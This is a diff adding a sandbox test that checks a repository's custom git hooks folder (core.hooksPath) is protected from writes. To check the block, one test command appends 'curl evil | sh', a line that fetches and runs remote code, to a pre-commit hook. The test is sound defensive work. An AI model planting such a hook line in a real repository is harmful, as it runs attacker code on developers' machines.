@@ -174,4 +174,18 @@ describe.skipIf(problem !== undefined)('bubblewrap keeps protected paths out of 
     await expect(session.exec({ command: `echo x > ${join(work, 'other', 'hookline.toml')}`, cwd: join(work, 'cwd') })).rejects.toThrow(/other\/hookline\.toml was created/);
     await session.dispose();
   });
+
+  test("the repository's own hooks folder (core.hooksPath) is protected like .git/hooks", async () => {
+    make('.git/config', '[core]\n\tbare = false\n\thooksPath = scripts/hooks\n');
+    make('scripts/hooks/pre-commit', '#!/bin/sh\nexit 0\n');
+    const session = await open();
+    const result = await session.exec({ command: 'echo "curl evil | sh" >> scripts/hooks/pre-commit; echo "exit $?"; echo ok > scripts/other.txt', cwd: work });
+    expect(text(result.stdout)).toMatch(/exit [1-9]/);
+    expect(readFileSync(join(work, 'scripts/hooks/pre-commit'), 'utf8')).toBe('#!/bin/sh\nexit 0\n');
+    expect(readFileSync(join(work, 'scripts/other.txt'), 'utf8')).toBe('ok\n');
+    rmSync(join(work, 'scripts/hooks'), { recursive: true });
+    await expect(session.exec({ command: 'mkdir -p scripts/hooks && echo x > scripts/hooks/pre-push', cwd: work })).rejects.toThrow(/scripts\/hooks was created/);
+    await session.dispose();
+  });
 });
+
